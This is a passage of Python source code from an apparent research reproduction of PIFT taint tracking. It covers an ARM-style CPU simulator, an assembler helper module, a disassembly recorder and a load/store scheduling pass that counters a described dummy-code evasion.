    __slots__ = ("_hub", "span")

    def __init__(self, hub, name: str, attributes: Dict[str, object]) -> None:
        self._hub = hub
        self.span = Span(name=name, attributes=attributes)

    def __enter__(self) -> Span:
        stack = self._hub._span_stack
        if stack:
            self.span.parent = stack[-1].name
            self.span.depth = len(stack)
        stack.append(self.span)
        self.span.start = time.perf_counter()
        return self.span

    def __exit__(self, exc_type, exc, tb) -> None:
        span = self.span
        span.duration = time.perf_counter() - span.start
        stack = self._hub._span_stack
        if stack and stack[-1] is span:
            stack.pop()
        else:  # defensive: out-of-order close, drop up to this span
            while stack:
                if stack.pop() is span:
                    break
        self._hub.metrics.histogram(
            f"span.{span.name}", buckets=DEFAULT_TIME_BUCKETS
        ).observe(span.duration)
        writer = self._hub.writer
        if writer is not None:
            writer.emit(
                "span",
                name=span.name,
                duration_us=round(span.duration * 1e6, 3),
                depth=span.depth,
                parent=span.parent,
                error=exc_type.__name__ if exc_type else None,
                **span.attributes,
            )


def timed(hub_or_getter, name: Optional[str] = None):
    """Decorator: run the wrapped callable inside a telemetry span.

    ``hub_or_getter`` is either a :class:`~repro.telemetry.hub.Telemetry`
    instance or a zero-argument callable returning one (or ``None``, in
    which case the call is not timed) — the callable form lets a module
    bind the decorator before its hub exists.
    """

    def decorate(func):
        span_name = name or func.__qualname__

        @functools.wraps(func)
        def wrapper(*args, **kwargs):
            hub = hub_or_getter() if callable(hub_or_getter) else hub_or_getter
            if hub is None or not hub.enabled:
                return func(*args, **kwargs)
            with hub.span(span_name):
                return func(*args, **kwargs)

        return wrapper

    return decorate

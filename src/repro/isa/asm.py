"""Assembler-style constructors so emitted routines read like ARM listings.

The Dalvik translator's routines are written with these helpers, matching
the paper's Figure 8/9 listings nearly token-for-token::

    asm.mov("r3", asm.reg("rINST", lsr=12))          # mov r3, rINST, lsr #12
    asm.ubfx("r9", "rINST", 8, 4)                    # ubfx r9, rINST, #8, #4
    asm.ldr("r1", "rFP", asm.reg("r3", lsl=2))       # ldr r1, [r5, r3 LSL #2]
    asm.mul("r0", "r1", "r0")                        # mul r0, r1, r0
    asm.str_("r0", "rFP", asm.reg("r9", lsl=2))      # str r0, [r5, r9 LSL #2]
"""

from __future__ import annotations

from typing import Optional, Sequence, Union

from repro.isa.instructions import (
    Address,
    Alu,
    AluOp,
    Branch,
    Cmp,
    Imm,
    Instruction,
    Load,
    LoadMultiple,
    Mov,
    Mul,
    Nop,
    Operand,
    Reg,
    RegisterPatch,
    ShiftKind,
    Store,
    StoreMultiple,
    Ubfx,
)

OperandLike = Union[int, str, Operand]
OffsetLike = Union[None, int, Operand]


def imm(value: int) -> Imm:
    return Imm(value)


def reg(register, lsl: int = 0, lsr: int = 0, asr: int = 0) -> Reg:
    """A register operand with at most one of lsl/lsr/asr applied."""
    shifts = [(ShiftKind.LSL, lsl), (ShiftKind.LSR, lsr), (ShiftKind.ASR, asr)]
    active = [(kind, amount) for kind, amount in shifts if amount]
    if len(active) > 1:
        raise ValueError("at most one shift may be given")
    if active:
        kind, amount = active[0]
        return Reg(register, kind, amount)
    return Reg(register)


def _operand(value: OperandLike) -> Operand:
    if isinstance(value, (Imm, Reg)):
        return value
    if isinstance(value, int):
        return Imm(value)
    return Reg(value)


def _offset(value: OffsetLike) -> Optional[Operand]:
    if value is None:
        return None
    return _operand(value)


def _address(base, offset: OffsetLike, writeback: bool, post: bool) -> Address:
    return Address(base, _offset(offset), pre=not post, writeback=writeback)


# -- data processing ------------------------------------------------------


def nop(comment: str = "") -> Nop:
    return Nop(comment)


def b(target: str = "") -> Branch:
    return Branch(target)


def mov(rd, src: OperandLike, s: bool = False) -> Mov:
    return Mov(rd, _operand(src), set_flags=s)


def mvn(rd, src: OperandLike, s: bool = False) -> Mov:
    return Mov(rd, _operand(src), invert=True, set_flags=s)


def _alu(op: AluOp, rd, rn, src: OperandLike, s: bool) -> Alu:
    return Alu(op, rd, rn, _operand(src), set_flags=s)


def add(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.ADD, rd, rn, src, s)


def adds(rd, rn, src: OperandLike) -> Alu:
    return add(rd, rn, src, s=True)


def sub(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.SUB, rd, rn, src, s)


def subs(rd, rn, src: OperandLike) -> Alu:
    return sub(rd, rn, src, s=True)


def rsb(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.RSB, rd, rn, src, s)


def and_(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.AND, rd, rn, src, s)


def orr(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.ORR, rd, rn, src, s)


def eor(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.EOR, rd, rn, src, s)


def bic(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.BIC, rd, rn, src, s)


def mul(rd, rn, rm) -> Mul:
    return Mul(rd, rn, rm)


def adc(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.ADC, rd, rn, src, s)


def sbc(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.SBC, rd, rn, src, s)


def rsc(rd, rn, src: OperandLike, s: bool = False) -> Alu:
    return _alu(AluOp.RSC, rd, rn, src, s)


def patch(rd, value: int, reads: Sequence = (), mnemonic: str = "mov") -> RegisterPatch:
    """A VM-computed result write with faithful register dataflow."""
    return RegisterPatch(rd, value, tuple(reads), mnemonic)


def ubfx(rd, rn, lsb: int, width: int) -> Ubfx:
    return Ubfx(rd, rn, lsb, width)


def cmp(rn, src: OperandLike) -> Cmp:
    return Cmp(rn, _operand(src))


# -- memory ----------------------------------------------------------------


def ldr(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Load:
    return Load(rd, _address(base, offset, wb, post), width=4)


def ldrh(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Load:
    return Load(rd, _address(base, offset, wb, post), width=2)


def ldrb(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Load:
    return Load(rd, _address(base, offset, wb, post), width=1)


def ldrsh(rd, base, offset: OffsetLike = None) -> Load:
    return Load(rd, _address(base, offset, False, False), width=2, signed=True)


def ldrsb(rd, base, offset: OffsetLike = None) -> Load:
    return Load(rd, _address(base, offset, False, False), width=1, signed=True)


def ldrd(rd, rd2, base, offset: OffsetLike = None) -> Load:
    return Load(rd, _address(base, offset, False, False), width=4, rd2=rd2)


def str_(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Store:
    return Store(rd, _address(base, offset, wb, post), width=4)


def strh(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Store:
    return Store(rd, _address(base, offset, wb, post), width=2)


def strb(rd, base, offset: OffsetLike = None, wb: bool = False, post: bool = False) -> Store:
    return Store(rd, _address(base, offset, wb, post), width=1)


def strd(rd, rd2, base, offset: OffsetLike = None) -> Store:
    return Store(rd, _address(base, offset, False, False), width=4, rd2=rd2)


def ldmia(base, registers: Sequence, wb: bool = True) -> LoadMultiple:
    return LoadMultiple(base, tuple(registers), writeback=wb)


def stmdb(base, registers: Sequence, wb: bool = True) -> StoreMultiple:
    return StoreMultiple(base, tuple(registers), writeback=wb)

"""PIFT-aware instruction scheduling — the paper's §7 future work.

    "A compiler support for PIFT could address such attacks.  For example,
    the compiler could eliminate dummy code inserted between related
    load/store instructions and could relocate such instructions to be
    closer to each other."

This module implements that pass over straight-line native code: within a
basic block, instructions that do not participate in the dataflow between
a load and the stores that consume its value are hoisted out of the gap,
shrinking the effective load→store distance back under the tainting
window.  The §4.2 evasion (a long block of dummy computation wedged
between the sensitive load and its store) is thereby neutralised — see
``tests/unit/test_scheduler.py`` and the full-stack evasion test.

The pass is conservative:

* only *basic blocks* are reordered (a branch or a ``RegisterPatch``
  ends the block — patches carry VM-resolved values whose position must
  not change);
* memory operations never move relative to each other (no alias
  analysis is attempted);
* register dependencies (read-after-write, write-after-read,
  write-after-write, and flag dependencies) are preserved exactly, so the
  scheduled code computes the same architectural state.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence, Set, Tuple

from repro.isa.instructions import (
    Alu,
    Branch,
    Cmp,
    Imm,
    Instruction,
    Load,
    LoadMultiple,
    Mov,
    Mul,
    Nop,
    Reg,
    RegisterPatch,
    Store,
    StoreMultiple,
    Ubfx,
)


@dataclass(frozen=True)
class _Effects:
    """Registers an instruction reads/writes, plus flag and memory use."""

    reads: frozenset
    writes: frozenset
    reads_flags: bool
    writes_flags: bool
    is_memory: bool


def _operand_regs(operand) -> Tuple[int, ...]:
    if isinstance(operand, Reg):
        return (operand.register,)
    return ()


def _address_effects(address) -> Tuple[Tuple[int, ...], Tuple[int, ...]]:
    reads = (address.base,) + (
        _operand_regs(address.offset) if address.offset else ()
    )
    writes = (
        (address.base,) if (address.writeback or not address.pre) else ()
    )
    return reads, writes


def effects_of(instruction: Instruction) -> _Effects:
    """Static register/flag/memory effects of one instruction."""
    if isinstance(instruction, (Nop, Branch)):
        return _Effects(frozenset(), frozenset(), False, False, False)
    if isinstance(instruction, Mov):
        return _Effects(
            frozenset(_operand_regs(instruction.src)),
            frozenset((instruction.rd,)),
            False,
            instruction.set_flags,
            False,
        )
    if isinstance(instruction, Alu):
        from repro.isa.instructions import AluOp

        uses_carry = instruction.op in (AluOp.ADC, AluOp.SBC, AluOp.RSC)
        return _Effects(
            frozenset((instruction.rn,) + _operand_regs(instruction.src)),
            frozenset((instruction.rd,)),
            uses_carry,
            instruction.set_flags,
            False,
        )
    if isinstance(instruction, Mul):
        return _Effects(
            frozenset((instruction.rn, instruction.rm)),
            frozenset((instruction.rd,)),
            False, False, False,
        )
    if isinstance(instruction, Ubfx):
        return _Effects(
            frozenset((instruction.rn,)),
            frozenset((instruction.rd,)),
            False, False, False,
        )
    if isinstance(instruction, Cmp):
        return _Effects(
            frozenset((instruction.rn,) + _operand_regs(instruction.src)),
            frozenset(),
            False, True, False,
        )
    if isinstance(instruction, RegisterPatch):
        return _Effects(
            frozenset(instruction.reads),
            frozenset((instruction.rd,)),
            False, False, False,
        )
    if isinstance(instruction, Load):
        addr_reads, addr_writes = _address_effects(instruction.address)
        writes = {instruction.rd, *addr_writes}
        if instruction.rd2 is not None:
            writes.add(instruction.rd2)
        return _Effects(
            frozenset(addr_reads), frozenset(writes), False, False, True
        )
    if isinstance(instruction, Store):
        addr_reads, addr_writes = _address_effects(instruction.address)
        reads = {instruction.rd, *addr_reads}
        if instruction.rd2 is not None:
            reads.add(instruction.rd2)
        return _Effects(
            frozenset(reads), frozenset(addr_writes), False, False, True
        )
    if isinstance(instruction, LoadMultiple):
        writes = set(instruction.registers)
        if instruction.writeback:
            writes.add(instruction.base)
        return _Effects(
            frozenset((instruction.base,)), frozenset(writes),
            False, False, True,
        )
    if isinstance(instruction, StoreMultiple):
        writes = {instruction.base} if instruction.writeback else set()
        return _Effects(
            frozenset(set(instruction.registers) | {instruction.base}),
            frozenset(writes),
            False, False, True,
        )
    raise TypeError(f"unknown instruction type {type(instruction).__name__}")


def _depends(later: _Effects, earlier: _Effects) -> bool:
    """Must ``later`` stay after ``earlier``?"""
    if later.reads & earlier.writes:  # RAW
        return True
    if later.writes & earlier.reads:  # WAR
        return True
    if later.writes & earlier.writes:  # WAW
        return True
    if later.reads_flags and earlier.writes_flags:
        return True
    if later.writes_flags and (earlier.reads_flags or earlier.writes_flags):
        return True
    if later.is_memory and earlier.is_memory:  # no alias analysis
        return True
    return False


def _schedule_block(block: Sequence[Instruction]) -> List[Instruction]:
    """Reorder one basic block: dependency-chain instructions of each
    memory operation float up right behind their producers; independent
    filler sinks to the end of the block."""
    effects = [effects_of(instruction) for instruction in block]
    n = len(block)
    predecessors: List[Set[int]] = [set() for _ in range(n)]
    for j in range(n):
        for i in range(j):
            if _depends(effects[j], effects[i]):
                predecessors[j].add(i)

    # Mark everything a memory operation transitively depends on.
    needed: Set[int] = set()
    stack = [i for i in range(n) if effects[i].is_memory]
    while stack:
        j = stack.pop()
        if j in needed:
            continue
        needed.add(j)
        stack.extend(predecessors[j])

    # List scheduling: at each step prefer ready 'needed' instructions,
    # in original order; fillers only run once nothing needed is ready.
    emitted: List[int] = []
    placed: Set[int] = set()
    remaining = set(range(n))
    while remaining:
        ready = [
            i for i in sorted(remaining) if predecessors[i] <= placed
        ]
        ready_needed = [i for i in ready if i in needed]
        choice = ready_needed[0] if ready_needed else ready[0]
        emitted.append(choice)
        placed.add(choice)
        remaining.discard(choice)
    return [block[i] for i in emitted]


def tighten_load_store(instructions: Sequence[Instruction]) -> List[Instruction]:
    """The PIFT compiler pass: minimise load→store distances per block.

    Returns a new instruction list computing the same architectural state
    (same final registers, same memory), with unrelated computation moved
    out of the gaps between loads and the stores that depend on them.
    """
    output: List[Instruction] = []
    block: List[Instruction] = []
    for instruction in instructions:
        if isinstance(instruction, (Branch,)):
            output.extend(_schedule_block(block))
            block = []
            output.append(instruction)
        else:
            block.append(instruction)
    output.extend(_schedule_block(block))
    return output


def load_store_distances(instructions: Sequence[Instruction]) -> List[int]:
    """Distance from each store back to the most recent load (for audits)."""
    distances: List[int] = []
    last_load: Optional[int] = None
    for index, instruction in enumerate(instructions):
        eff = effects_of(instruction)
        if isinstance(instruction, (Load, LoadMultiple)):
            last_load = index
        elif isinstance(instruction, (Store, StoreMultiple)):
            if last_load is not None:
                distances.append(index - last_load)
    return distances

"""CPU register file for the ARM-flavoured load/store simulator.

Sixteen 32-bit general-purpose registers plus NZCV condition flags.  The
Dalvik mterp routines (paper Figures 8/9) use the conventional mterp
register assignments, exposed here as named aliases:

* ``rPC``   (r4) — bytecode program counter,
* ``rFP``   (r5) — frame pointer to the virtual-register array in memory,
* ``rINST`` (r7) — current bytecode instruction word,
* ``rIBASE``(r8) — interpreter handler table base,
* ``sp/lr/pc``  — the usual ARM roles.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

MASK_32 = 0xFFFFFFFF

REGISTER_COUNT = 16

#: ARM register aliases, including the mterp conventions used by the paper.
REGISTER_ALIASES: Dict[str, int] = {
    **{f"r{i}": i for i in range(REGISTER_COUNT)},
    "rPC": 4,
    "rFP": 5,
    "rSELF": 6,
    "rINST": 7,
    "rIBASE": 8,
    "ip": 12,
    "sp": 13,
    "lr": 14,
    "pc": 15,
}


def register_number(name_or_number) -> int:
    """Normalise ``'r5'`` / ``'rFP'`` / ``5`` to a register index."""
    if isinstance(name_or_number, int):
        number = name_or_number
    else:
        try:
            number = REGISTER_ALIASES[name_or_number]
        except KeyError:
            raise ValueError(f"unknown register {name_or_number!r}") from None
    if not 0 <= number < REGISTER_COUNT:
        raise ValueError(f"register index out of range: {number}")
    return number


@dataclass
class ConditionFlags:
    """The NZCV flags written by compare/flag-setting instructions."""

    negative: bool = False
    zero: bool = False
    carry: bool = False
    overflow: bool = False

    def set_nz(self, value: int) -> None:
        value &= MASK_32
        self.negative = bool(value & 0x80000000)
        self.zero = value == 0


class RegisterFile:
    """Sixteen 32-bit registers with wrap-around arithmetic semantics."""

    def __init__(self) -> None:
        self._values: List[int] = [0] * REGISTER_COUNT
        self.flags = ConditionFlags()

    def read(self, register) -> int:
        return self._values[register_number(register)]

    def write(self, register, value: int) -> None:
        self._values[register_number(register)] = value & MASK_32

    def read_signed(self, register) -> int:
        value = self.read(register)
        return value - 0x100000000 if value & 0x80000000 else value

    def snapshot(self) -> List[int]:
        return list(self._values)

    def __getitem__(self, register) -> int:
        return self.read(register)

    def __setitem__(self, register, value: int) -> None:
        self.write(register, value)

    def __repr__(self) -> str:
        cells = ", ".join(
            f"r{i}={value:#x}" for i, value in enumerate(self._values) if value
        )
        return f"RegisterFile({cells})"

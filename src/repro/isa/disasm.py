"""Annotated trace listings — the paper's Figure 1/9 presentation format.

``DisassemblyRecorder`` is a CPU observer that renders every retired
instruction as an address-annotated line, optionally marking the events a
PIFT tracker acted on, e.g.::

    0x40000010: ldrh lr, [r1, r2]        ; load [0x600152a4,0x600152a5] TAINTED-LOAD
    0x40000011: adds r3, r3, #1
    0x40000012: strh lr, [r0, r2]        ; store [0x600152d4,0x600152d5] TAINT

Useful for debugging apps and for producing the paper-style listings in
documentation; see ``examples/trace_anatomy.py``.
"""

from __future__ import annotations

from typing import List, Optional

from repro.core.events import AccessKind
from repro.core.tracker import PIFTTracker
from repro.isa.instructions import ExecutionRecord

#: Fictitious text-segment base for rendered addresses (one slot per
#: retired instruction, like a trace dump's program counter column).
LISTING_BASE = 0x40000000


class DisassemblyRecorder:
    """CPU observer producing an annotated, bounded trace listing."""

    def __init__(
        self,
        tracker: Optional[PIFTTracker] = None,
        max_lines: int = 10_000,
    ) -> None:
        self.tracker = tracker
        self.max_lines = max_lines
        self.lines: List[str] = []
        self.truncated = False

    def __call__(self, record: ExecutionRecord, index: int, pid: int) -> None:
        if len(self.lines) >= self.max_lines:
            self.truncated = True
            return
        self.lines.append(self._render(record, index))

    def _render(self, record: ExecutionRecord, index: int) -> str:
        text = f"{LISTING_BASE + index:#010x}: {self._mnemonic_text(record)}"
        if not record.is_memory:
            return text
        assert record.address_range is not None
        kind = "load" if record.kind is AccessKind.LOAD else "store"
        annotation = (
            f"{kind} [{record.address_range.start:#x},"
            f"{record.address_range.end:#x}]"
        )
        if self.tracker is not None:
            tainted = self.tracker.check(record.address_range)
            if record.kind is AccessKind.LOAD and tainted:
                annotation += " TAINTED-LOAD"
            elif record.kind is AccessKind.STORE and tainted:
                annotation += " TAINT"
        return f"{text:<48s}; {annotation}"

    @staticmethod
    def _mnemonic_text(record: ExecutionRecord) -> str:
        return record.text or record.mnemonic

    def text(self, first: int = 0, count: Optional[int] = None) -> str:
        """Render a slice of the listing (all of it by default)."""
        selected = self.lines[first : None if count is None else first + count]
        tail = ["... (truncated)"] if self.truncated else []
        return "\n".join(selected + tail)

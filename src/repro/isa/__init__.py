"""ARM-flavoured load/store CPU simulator — the gem5 stand-in.

The paper instruments gem5 to obtain instruction-level execution traces of
Android apps on an ARM processor; this package provides the equivalent
substrate: a byte-addressable :class:`~repro.isa.memory.AddressSpace`, a
16-register :class:`~repro.isa.registers.RegisterFile`, the load/store
instruction set PIFT watches, and a tracing
:class:`~repro.isa.cpu.CPU` whose observers receive every retired
instruction.
"""

from repro.isa.cpu import CPU, FullTraceRecorder, Observer, TraceRecorder
from repro.isa.disasm import DisassemblyRecorder
from repro.isa.scheduler import (
    load_store_distances,
    tighten_load_store,
)
from repro.isa.instructions import (
    Address,
    Alu,
    AluOp,
    Branch,
    Cmp,
    ExecutionRecord,
    Imm,
    Instruction,
    Load,
    LoadMultiple,
    Mov,
    Mul,
    Nop,
    Reg,
    RegisterPatch,
    ShiftKind,
    Store,
    StoreMultiple,
    Ubfx,
)
from repro.isa.memory import (
    AddressSpace,
    BumpAllocator,
    Memory,
    MemoryFault,
    Region,
)
from repro.isa.registers import (
    MASK_32,
    REGISTER_ALIASES,
    REGISTER_COUNT,
    ConditionFlags,
    RegisterFile,
    register_number,
)

__all__ = [
    "Address",
    "AddressSpace",
    "Alu",
    "AluOp",
    "Branch",
    "BumpAllocator",
    "CPU",
    "Cmp",
    "DisassemblyRecorder",
    "ConditionFlags",
    "ExecutionRecord",
    "FullTraceRecorder",
    "Imm",
    "Instruction",
    "Load",
    "LoadMultiple",
    "MASK_32",
    "Memory",
    "MemoryFault",
    "Mov",
    "Mul",
    "Nop",
    "Observer",
    "REGISTER_ALIASES",
    "REGISTER_COUNT",
    "Reg",
    "RegisterPatch",
    "Region",
    "RegisterFile",
    "ShiftKind",
    "Store",
    "StoreMultiple",
    "TraceRecorder",
    "Ubfx",
    "load_store_distances",
    "register_number",
    "tighten_load_store",
]

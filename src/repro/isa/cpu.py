"""The tracing CPU: executes instruction sequences and notifies observers.

This plays gem5's role in the paper's methodology — it produces the
instruction-level execution stream that PIFT's front end (and the full-DIFT
baseline) consume.  Observers receive every retired instruction's
:class:`~repro.isa.instructions.ExecutionRecord` together with the
per-process instruction index.
"""

from __future__ import annotations

import dataclasses
import time
from typing import TYPE_CHECKING, Callable, Dict, Iterable, List, Optional

from repro.core.events import EventTrace, MemoryAccess
from repro.isa.instructions import ExecutionRecord, Instruction
from repro.isa.memory import AddressSpace
from repro.isa.registers import RegisterFile

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.telemetry import Telemetry

#: Observer signature: (record, per-process instruction index, pid).
Observer = Callable[[ExecutionRecord, int, int], None]


class CPU:
    """A single-core, in-order CPU over one address space.

    The hosting VM feeds instruction sequences through :meth:`run`; there is
    no fetch/decode from memory — programs in this reproduction are
    generated (mterp-style) rather than stored, which leaves the memory
    *data* traffic identical to the paper's while keeping the simulator
    small.
    """

    def __init__(
        self,
        address_space: Optional[AddressSpace] = None,
        render_text: bool = False,
        telemetry: Optional["Telemetry"] = None,
    ) -> None:
        self.address_space = address_space or AddressSpace()
        self.registers = RegisterFile()
        self._observers: List[Observer] = []
        self._counters: Dict[int, int] = {}
        self._pid = 0
        #: When True, every ExecutionRecord carries the instruction's full
        #: assembly text (for disassembly listings; costs a str() each).
        self.render_text = render_text
        #: Telemetry is recorded per :meth:`run` batch, never per retired
        #: instruction, so :meth:`execute` stays untouched either way.
        self.telemetry: Optional["Telemetry"] = None
        self._batches_seen = 0
        if telemetry is not None and telemetry.enabled:
            self.telemetry = telemetry
            m = telemetry.metrics
            self._m_instructions = m.counter(
                "cpu.instructions", "instructions retired"
            )
            self._m_batches = m.counter(
                "cpu.batches", "instruction batches executed"
            )
            self._m_batch_seconds = m.histogram(
                "cpu.batch_seconds", "instruction batch wall time"
            )
            self._m_throughput = m.gauge(
                "cpu.instructions_per_second", "throughput of the last batch"
            )

    # -- process context -----------------------------------------------------

    @property
    def current_pid(self) -> int:
        return self._pid

    def context_switch(self, pid: int) -> None:
        self._pid = pid

    def instruction_count(self, pid: Optional[int] = None) -> int:
        key = self._pid if pid is None else pid
        return self._counters.get(key, 0)

    # -- observers ----------------------------------------------------------

    def add_observer(self, observer: Observer) -> None:
        self._observers.append(observer)

    def remove_observer(self, observer: Observer) -> None:
        self._observers.remove(observer)

    # -- execution ------------------------------------------------------------

    def execute(self, instruction: Instruction) -> ExecutionRecord:
        """Retire one instruction and fan its record out to observers."""
        record = instruction.execute(self)
        if self.render_text:
            record = dataclasses.replace(record, text=str(instruction))
        index = self._counters.get(self._pid, 0)
        self._counters[self._pid] = index + 1
        for observer in self._observers:
            observer(record, index, self._pid)
        return record

    def run(self, instructions: Iterable[Instruction]) -> int:
        """Execute a sequence; returns the number of instructions retired."""
        tel = self.telemetry
        started = time.perf_counter() if tel is not None else 0.0
        count = 0
        for instruction in instructions:
            self.execute(instruction)
            count += 1
        if tel is not None and count:
            elapsed = time.perf_counter() - started
            self._m_instructions.inc(count)
            self._m_batches.inc()
            self._m_batch_seconds.observe(elapsed)
            if elapsed > 0:
                self._m_throughput.set(count / elapsed)
            # A VM run emits one batch per translated bytecode, so batch
            # events are sampled (counters above stay exact).
            self._batches_seen += 1
            if self._batches_seen % tel.cpu_batch_sample == 0:
                tel.event(
                    "cpu_batch",
                    pid=self._pid,
                    instructions=count,
                    duration_us=round(elapsed * 1e6, 3),
                    batches_total=self._batches_seen,
                    index=self._counters.get(self._pid, 0),
                )
        return count


class TraceRecorder:
    """Observer that materialises the memory-event trace PIFT consumes."""

    def __init__(self) -> None:
        self.trace = EventTrace()

    def __call__(self, record: ExecutionRecord, index: int, pid: int) -> None:
        if record.is_memory:
            assert record.kind is not None and record.address_range is not None
            self.trace.append(
                MemoryAccess(record.kind, record.address_range, index, pid)
            )
        else:
            self.trace.note_instruction(index, pid)


class FullTraceRecorder:
    """Observer that keeps every execution record (for the DIFT baseline)."""

    def __init__(self) -> None:
        self.records: List[ExecutionRecord] = []

    def __call__(self, record: ExecutionRecord, index: int, pid: int) -> None:
        self.records.append(record)

"""ARM runtime-ABI helper routines (``__aeabi_*``) as instruction sequences.

The paper's Table 1 leaves 47 bytecodes with an *unknown* load–store
distance: floating-point arithmetic and integer division are compiled to
calls into the ARM runtime ABI helper functions (``__aeabi_fadd`` etc.),
whose bodies are long register-only computations.  The practical
consequence measured in Figure 11 is that apps leaking GPS data (floats
converted to strings) need a tainting window of at least ``NI = 10``.

This module generates those helper bodies.  The instruction sequences are
*structurally* faithful — the right length, register dataflow from the
operand registers into the result register, and no memory traffic — while
the numeric result itself is computed by the VM (PIFT never inspects
values, and the full-DIFT baseline tracks taint through the register
dataflow these bodies preserve).
"""

from __future__ import annotations

from typing import Dict, List

from repro.isa import asm
from repro.isa.instructions import Instruction

#: Instructions in each helper body (between the operand loads and the
#: result store emitted by the caller).  Chosen to land float/division
#: bytecodes' end-to-end load->store distances in the >= 10 region the
#: paper measured, with division the longest.
HELPER_BODY_LENGTHS: Dict[str, int] = {
    "fadd": 10,
    "fsub": 10,
    "fmul": 12,
    "fdiv": 16,
    "fcmp": 9,
    "dadd": 12,
    "dsub": 12,
    "dmul": 14,
    "ddiv": 18,
    "dcmp": 10,
    "idiv": 13,
    "irem": 15,
    "ldiv": 16,
    "lrem": 18,
    "lmul": 9,
    "f2d": 8,
    "d2f": 8,
    "f2i": 9,
    "d2i": 10,
    "i2f": 8,
    "i2d": 8,
    "f2s_digit": 10,  # per-character work of float->string conversion
    "d2s_digit": 9,  # per-character work of double->string conversion
    "i2s_digit": 6,  # per-character work of int->string conversion
    "l2s_digit": 8,  # per-character work of long->string conversion
}


def helper_body(name: str, rd: str = "r0", rn: str = "r0", rm: str = "r1") -> List[Instruction]:
    """The ALU-only body of helper ``name``: ``rd`` derives from ``rn``/``rm``.

    The first instructions unpack sign/exponent/mantissa fields from the
    operand registers; the tail folds both operands into ``rd`` so that
    register-level taint reaches the result, as it would through a real
    soft-float routine.
    """
    try:
        length = HELPER_BODY_LENGTHS[name]
    except KeyError:
        raise ValueError(f"unknown ABI helper {name!r}") from None
    body: List[Instruction] = [
        asm.b(f"__aeabi_{name}"),  # the bl into the helper
        asm.mov("ip", asm.reg(rn, lsr=23)),  # crack exponent field
        asm.and_("ip", "ip", 0xFF),
    ]
    # Alternate mantissa manipulations touching both operands.
    fillers = [
        lambda: asm.mov("r3", asm.reg(rm, lsl=9)),
        lambda: asm.orr("r3", "r3", 1 << 31),
        lambda: asm.mov("r2", asm.reg(rn, lsl=9)),
        lambda: asm.add("r2", "r2", asm.reg("r3", lsr=1)),
        lambda: asm.sub("ip", "ip", 1),
        lambda: asm.eor("r3", "r3", asm.reg("r2", lsr=3)),
        lambda: asm.and_("r2", "r2", 0x7FFFFF),
        lambda: asm.orr("r2", "r2", asm.reg("ip", lsl=23)),
    ]
    i = 0
    while len(body) < length - 2:
        body.append(fillers[i % len(fillers)]())
        i += 1
    # Fold both operands into the result register, then 'return'.
    body.append(asm.eor(rd, rn, asm.reg(rm)) if rn != rm else asm.mov(rd, asm.reg(rn)))
    body.append(asm.b("lr"))
    return body[:length]


def helper_length(name: str) -> int:
    """Total body length of helper ``name`` in instructions."""
    try:
        return HELPER_BODY_LENGTHS[name]
    except KeyError:
        raise ValueError(f"unknown ABI helper {name!r}") from None

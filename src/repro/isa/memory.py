"""Byte-addressable simulated memory with a region allocator.

The memory is sparse (4KB pages allocated on first touch) and little-endian,
like the ARM/Android configuration the paper traces.  A bump allocator
carves out the regions the Dalvik substrate needs: per-thread frames (where
the memory-resident virtual registers live — the property PIFT exploits)
and a heap for strings, arrays, and object instances.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable

from repro.core.ranges import AddressRange

PAGE_BITS = 12
PAGE_SIZE = 1 << PAGE_BITS
ADDRESS_MASK = 0xFFFFFFFF


class MemoryFault(RuntimeError):
    """Raised on out-of-bounds or misaligned accesses we choose to reject."""


class Memory:
    """Sparse little-endian byte memory over a 32-bit address space."""

    def __init__(self) -> None:
        self._pages: Dict[int, bytearray] = {}

    # -- byte-level primitives --------------------------------------------

    def _page_for(self, address: int) -> bytearray:
        page_index = address >> PAGE_BITS
        page = self._pages.get(page_index)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[page_index] = page
        return page

    def read_bytes(self, address: int, size: int) -> bytes:
        if size < 0:
            raise MemoryFault(f"negative read size {size}")
        self._check(address, size)
        out = bytearray(size)
        offset = 0
        while offset < size:
            addr = address + offset
            page = self._page_for(addr)
            in_page = addr & (PAGE_SIZE - 1)
            chunk = min(size - offset, PAGE_SIZE - in_page)
            out[offset : offset + chunk] = page[in_page : in_page + chunk]
            offset += chunk
        return bytes(out)

    def write_bytes(self, address: int, data: bytes) -> None:
        self._check(address, len(data))
        offset = 0
        size = len(data)
        while offset < size:
            addr = address + offset
            page = self._page_for(addr)
            in_page = addr & (PAGE_SIZE - 1)
            chunk = min(size - offset, PAGE_SIZE - in_page)
            page[in_page : in_page + chunk] = data[offset : offset + chunk]
            offset += chunk

    @staticmethod
    def _check(address: int, size: int) -> None:
        if address < 0 or address + size - 1 > ADDRESS_MASK:
            raise MemoryFault(
                f"access [{address:#x}, {address + size - 1:#x}] outside the "
                "32-bit address space"
            )

    # -- sized accessors (little-endian) ------------------------------------

    def read_u8(self, address: int) -> int:
        return self.read_bytes(address, 1)[0]

    def read_u16(self, address: int) -> int:
        return int.from_bytes(self.read_bytes(address, 2), "little")

    def read_u32(self, address: int) -> int:
        return int.from_bytes(self.read_bytes(address, 4), "little")

    def read_u64(self, address: int) -> int:
        return int.from_bytes(self.read_bytes(address, 8), "little")

    def write_u8(self, address: int, value: int) -> None:
        self.write_bytes(address, bytes([value & 0xFF]))

    def write_u16(self, address: int, value: int) -> None:
